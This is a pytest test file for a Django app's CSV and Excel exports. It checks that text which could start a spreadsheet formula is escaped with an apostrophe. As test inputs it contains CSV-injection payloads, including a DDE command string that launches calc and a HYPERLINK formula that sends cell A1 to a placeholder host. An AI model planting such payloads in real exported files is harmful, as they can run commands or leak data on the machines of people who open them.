"""No text in a CSV file or workbook of the app runs as a formula (OWASP "CSV injection"):
the rule (cell_text.py) as properties, and every export of a round whose names, actions and
notes all look like formulas."""

import csv
import io
import re

import pytest
from django.urls import reverse
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import load_workbook

from assessments.actions.services import action_progress_add
from assessments.reporting.cell_text import FORMULA_STARTS, needs_guard, safe_text
from assessments.rounds.services import round_close
from tests.factories import make_action, make_scored_round

BLANKS = st.text(alphabet=" \t\r\n", max_size=3)
DANGEROUS = st.one_of(
    st.builds(
        lambda blanks, start, rest: blanks + start + rest,
        BLANKS,
        st.sampled_from(FORMULA_STARTS),
        st.text(),
    ),
    st.builds(lambda start, rest: start + rest, st.sampled_from(["\t", "\r"]), st.text()),
)


def read_as_a_spreadsheet_would(text: str) -> bool:
    """Whether a spreadsheet could take the cell for a formula: after any leading blanks its
    first character starts one, or the cell starts with a tab or carriage return."""
    return text[:1] in ("\t", "\r") or text.lstrip(" \t\r\n")[:1] in FORMULA_STARTS


@given(st.text())
@example("=1+1")
@example("Visie en beleid; 1 = 1")
@example("")
def test_safe_text_never_reads_as_a_formula_and_only_ever_adds_one_apostrophe(text):
    safe = safe_text(text)
    assert not read_as_a_spreadsheet_would(safe)
    assert safe in (text, "'" + text)
    assert (safe != text) == read_as_a_spreadsheet_would(text) == needs_guard(text)


@given(DANGEROUS)
@example('=HYPERLINK("http://example.org?"&A1)')
@example("+31 6 12345678")
@example("-1")
@example("@SUM(A1)")
@example("\t=1")
@example("\r=1")
@example("  =1")
def test_text_that_starts_like_a_formula_is_always_guarded(text):
    assert safe_text(text) == "'" + text


@given(st.text().filter(lambda text: not read_as_a_spreadsheet_would(text)))
def test_other_text_is_left_as_typed(text):
    assert safe_text(text) == text


# --- every export of the app --------------------------------------------------------------

DUTCH_NUMBER = re.compile(r"^-?\d+(,\d)?$")  # a figure in the CSV, not text


@pytest.fixture
def formula_round(organisation, framework, coordinator):
    round = make_scored_round(
        organisation=organisation, framework=framework, name='=HYPERLINK("http://x")'
    )
    action = make_action(round=round, number=7, title="+cmd|' /C calc'!A0", owner_name="@SUM(A1)")
    coordinator.first_name = "-2+3"
    coordinator.save()
    action_progress_add(action=action, status="in_progress", note="=1+1", user=coordinator)
    return round_close(round=round)


def workbook_texts(content: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(content))
    return [
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


def test_no_text_in_any_csv_or_workbook_reads_as_a_formula(
    client, coordinator, organisation, formula_round
):
    client.force_login(coordinator)
    get = lambda name, arg: client.get(reverse(f"assessments:{name}", args=[arg])).content  # noqa: E731
    csv_text = get("round-report-csv", formula_round.pk).decode("utf-8-sig")
    csv_cells = [
        cell
        for row in csv.reader(io.StringIO(csv_text), delimiter=";")
        for cell in row
        if not DUTCH_NUMBER.match(cell)
    ]
    round_book = workbook_texts(get("round-report-xlsx", formula_round.pk))
    organisation_book = workbook_texts(get("organisation-workbook", organisation.slug))

    for texts in (csv_cells, round_book, organisation_book):
        assert texts and not [text for text in texts if read_as_a_spreadsheet_would(text)]
    assert "'+cmd|' /C calc'!A0" in round_book and "'@SUM(A1)" in round_book
    assert '\'=HYPERLINK("http://x"): niveau' in organisation_book
    assert {"'+cmd|' /C calc'!A0", "'@SUM(A1)", "'=1+1", "'-2+3"} <= set(organisation_book)
